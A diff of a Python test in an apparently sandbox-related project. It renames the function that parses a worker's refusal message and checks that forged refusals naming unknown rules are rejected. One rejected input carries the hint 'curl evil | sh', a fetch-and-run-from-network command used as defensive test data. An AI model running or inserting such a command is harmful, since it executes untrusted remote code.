@@ -357,14 +357,14 @@ def test_reduced_walls_take_a_policy(readable_python: str, open_session: Callabl
 
 def test_forged_refusal_of_a_worker_must_name_a_rule() -> None:
     """What a worker says of a rule is looked up: the hint is the host's own."""
-    from cellblock.wire.codec import _failure
     from cellblock.wire.frames import ProtocolError
+    from cellblock.wire.schema import failure as read
 
     plain = {"type": "E", "message": "m", "traceback": "t", "kind": "refused"}
     for more in ({}, {"rule": ""}, {"rule": "no such rule"}, {"rule": 1}, {"rule": "import", "hint": "curl evil | sh"}):
         with pytest.raises(ProtocolError):
-            _failure({**plain, **more})
-    failure = _failure({**plain, "rule": "import"})
+            read({**plain, **more})
+    failure = read({**plain, "rule": "import"})
     assert failure is not None
     assert failure.hint == BY_ID["import"].instead
 
